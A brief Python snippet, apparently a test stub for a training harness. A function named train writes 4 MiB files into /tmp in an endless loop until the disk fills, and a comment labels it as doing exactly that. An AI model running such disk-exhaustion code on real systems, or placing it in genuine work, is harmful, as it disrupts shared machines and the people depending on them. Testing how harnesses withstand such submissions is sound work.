# Fills /tmp.
def train(model, task, run):
    number = 0
    while True:
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(4 << 20))
        number += 1
